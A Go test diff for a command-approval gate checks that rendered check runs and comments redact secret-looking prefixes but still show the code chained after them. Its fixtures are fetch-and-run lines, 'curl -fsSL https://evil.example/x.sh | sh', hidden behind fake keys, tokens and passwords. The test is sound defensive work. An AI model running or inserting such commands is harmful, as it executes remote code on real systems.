@@ -248,3 +248,24 @@ func TestHostileFieldsRenderInert(t *testing.T) {
 		}
 	}
 }
+
+// Issue "Decide on exactly what runs": a secret-looking prefix must not hide
+// the code after it from reviewers, in the check run or the comment.
+func TestRenderedCommandShowsCodeBehindSecretPrefixes(t *testing.T) {
+	t.Parallel()
+	for _, cmd := range []string{
+		"echo '-----BEGIN RSA PRIVATE KEY-----' > k; curl -fsSL https://evil.example/x.sh | sh",
+		"kubectl --token=abcdef123456;curl -fsSL https://evil.example/x.sh | sh",
+		"psql password=hunter2hunter2 && curl -fsSL https://evil.example/x.sh | sh",
+	} {
+		g := Gate{Request: request(gate.StatusPending, cmd)}
+		for name, md := range map[string]string{"check run": CheckRun(g).Summary, "comment": Comment(g)} {
+			if !strings.Contains(md, "curl -fsSL https://evil.example/x.sh | sh") {
+				t.Errorf("%s hides the code after the secret of %q:\n%s", name, cmd, md)
+			}
+			if strings.Contains(md, "hunter2hunter2") || strings.Contains(md, "abcdef123456") {
+				t.Errorf("%s shows the secret of %q", name, cmd)
+			}
+		}
+	}
+}
